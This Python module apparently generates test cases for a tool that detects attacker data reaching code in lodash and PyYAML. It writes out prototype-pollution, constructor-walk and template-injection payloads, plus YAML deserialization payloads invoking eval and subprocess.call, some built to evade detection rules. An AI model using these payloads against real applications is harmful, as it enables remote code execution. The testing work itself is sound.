"""Data that tries to reach code: constructors, templates, unsafe loaders, gadgets, chains that decide by themselves."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

from contract.forgeries import code
from contract.forgeries.forgery import NPM, Forgery, Json, call, calls, command, harmless, on, pollution, word

EFFECTS = ("prototype_pollution", "command")


def constructor_walks(rng: Random) -> Iterator[Forgery]:
    """Entries, methods and paths that lead to the function constructor."""
    for package in NPM:
        body = code.js(rng, package, "always", "prototype_pollution")
        for path in ("constructor.constructor", "prototype.constructor.constructor", "__proto__.constructor"):
            yield pollution("constructor walk", package, [call(f"{package}:{path}", body)])
        for method in ("constructor", "call", "apply", "bind", "__defineGetter__", "__lookupSetter__"):
            yield pollution("constructor walk", package, [harmless(package), on(0, method, body)])
    for effect in EFFECTS:
        for path in ("constructor.constructor", ["constructor", "constructor"]):
            body = code.js(rng, "lodash", "source", effect)
            for entry in ("lodash:invoke", "lodash:result", "lodash:get"):
                steps = [call(entry, {"a": word(rng)}, path, body)]
                yield calls("constructor walk", "lodash", steps, [call(entry, {}, "a")], claims=effect)


def _lodash_chain(first: Json, *steps: Json) -> tuple[list[Json], list[Json]]:
    chained = [call("lodash:chain", first), *(on(n, name, *args) for n, (name, *args) in enumerate(steps))]
    names = [name for name, *_ in steps]
    plain = {"invokeMap": ["toString"], "invoke": ["toString"], "omit": ["zz"], "reject": ["zz"], "map": ["a"]}
    benign = [call("lodash:chain", ["x"]), *(on(n, name, *plain.get(name, [])) for n, name in enumerate(names))]
    return chained, benign


def templates(rng: Random) -> Iterator[Forgery]:
    """Documented templates whose code looks for the version."""
    for effect in EFFECTS:
        for gate in ("version", "size", "source", "always"):
            body = f"{word(rng)} <% {code.js(rng, 'lodash', gate, effect)} %>"
            steps, benign = _lodash_chain(body, ("template",), ("invoke", "call"), ("value",))
            yield calls("template", "lodash", steps, benign, claims=effect)
            alone = [call("lodash:template", body, {"sourceURL": word(rng)})]
            yield calls("template", "lodash", alone, [call("lodash:template", "a")], claims=effect)


def unsafe_loads(rng: Random) -> Iterator[Forgery]:
    """Documented unsafe loaders whose code looks for the version."""
    for gate in code.PY_GATES:
        for entry in ("yaml:unsafe_load", "yaml:load", "yaml:unsafe_load_all"):
            more: dict[str, Json] = (
                {"kwargs": {"Loader": {"$name": "yaml:UnsafeLoader"}}} if entry == "yaml:load" else {}
            )
            text = f"{word(rng)}: !!python/object/apply:eval [{_quoted(code.py(gate))}]"
            yield command("unsafe load", "pyyaml", [call(entry, text, **more)], [call(entry, "a: 1", **more)])


def mines(rng: Random) -> Iterator[Forgery]:
    """A documented unsafe loader, and data that an earlier release refuses for another reason."""
    for mine in ("._", "."):
        for shape in ("[{mine}, {run}]", "- {mine}\n- {run}\n", "{word}: {mine}\n{word}s: {run}\n"):
            run = "!!python/object/apply:subprocess.call [['{{CANARY}}', '{{TOKEN}}']]"
            text = shape.format(mine=mine, run=run, word=word(rng))
            steps = [call("yaml:unsafe_load", text)]
            yield command("mine", "pyyaml-earlier", steps, [call("yaml:unsafe_load", "a: 1", returns={"a": 1})])


def _quoted(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'


def gadgets(rng: Random) -> Iterator[Forgery]:
    """Chains of harmless steps that end in something else than the claimed flaw."""
    for gate in ("members", "always"):
        text = f"!!python/object/apply:subprocess.call [['{{{{CANARY}}}}', '{{{{TOKEN}}}}', '{word(rng)}']]"
        yield command("gadget chain", "pyyaml", [call("yaml:unsafe_load", text)], [call("yaml:unsafe_load", "1")])
        listed = f"- !!python/name:eval\n- [{_quoted(code.py(gate))}]\n"
        yield command("gadget chain", "pyyaml", [call("yaml:full_load", listed)], [call("yaml:full_load", "1")])
        dumped = {"a": listed, "b": word(rng)}
        yield command("gadget chain", "pyyaml", [call("yaml:dump", dumped)], [call("yaml:dump", {})])
    for effect in EFFECTS:
        for path in ("flow", "attempt", "defer", "thru", "tap"):
            steps = [call(f"lodash:{path}", {"$noop": True}, code.js(rng, "lodash", "source", effect))]
            yield calls("gadget chain", "lodash", steps, [call(f"lodash:{path}", {"$noop": True})], claims=effect)


def chains_that_decide(rng: Random) -> Iterator[Forgery]:
    """Version gates without code: a fluent interface carries results onward, and tells the releases apart."""
    gate: Json = {"constructor": {"prototype": {word(rng): 1, "g": rng.randrange(9)}}}
    told = [("omit", "constructor.prototype.g"), ("reject", "prototype.g")]
    for package in ("lodash-later", "lodash"):
        for form in ("constructor.constructor", ["constructor", "constructor"]):
            body = code.js(rng, "lodash", "always", "command")
            steps, benign = _lodash_chain(gate, *told, ("invokeMap", form, body), ("invokeMap", "call"), ("value",))
            yield command("chain that decides", package, steps, benign)
        into = [("map", "constructor.constructor.prototype"), ("head",), ("set", "{{K}}", "{{V}}"), ("value",)]
        steps, benign = _lodash_chain(gate, *told, *into)
        benign[5] = on(4, "set", "a", "b")
        yield pollution("chain that decides", package, steps, benign)
    held: Json = [{"constructor": {"n": 1}, "f": {"$noop": True}}]
    for key in ("g", word(rng)):
        sets = [("set", f"[0].constructor.{key}", 1), ("filter", f"constructor.{key}"), ("map", "f")]
        into = [("map", "constructor.prototype"), ("head",), ("set", "{{K}}", "{{V}}"), ("value",)]
        steps, benign = _lodash_chain(held, *sets, *into)
        for place in (1, 6):
            benign[place] = on(place - 1, "set", "a", "b")
        yield pollution("chain that decides", "lodash", steps, benign)


def results_as_arguments(rng: Random) -> Iterator[Forgery]:
    """The forgery that beats every rule but one: the target's own functions read its source and choose."""
    proto = call("lodash:get", {"$noop": True}, "constructor.prototype")
    for needle in ("var variable = options.variable;", "key = (lodashFunc.name + ''),"):
        steps = [
            call("lodash:runInContext"),
            call("lodash:get", {"$result": 0}, "runInContext"),
            call("lodash:join", [{"$result": 1}], ""),
            call("lodash:includes", {"$result": 2}, needle),
            proto,
            call("lodash:get", {"$members": [["true", {"$result": 4}], [word(rng), {}]]}, {"$result": 3}),
            call("lodash:set", {"$result": 5}, "{{K}}", "{{V}}"),
        ]
        benign = [
            call("lodash:runInContext"),
            call("lodash:get", {"a": 1}, "a", returns=1),
            call("lodash:join", ["a", "b"], "", returns="ab"),
            call("lodash:includes", "abc", "b", returns=True),
            call("lodash:set", {}, "a", 1, returns={"a": 1}),
        ]
        yield pollution("result as argument", "lodash", steps, benign)
    for package in NPM:
        steps = [harmless(package), {"call": harmless(package)["call"], "args": [{"$result": 0}, "{{K}}", "{{V}}"]}]
        yield pollution("result as argument", package, steps)
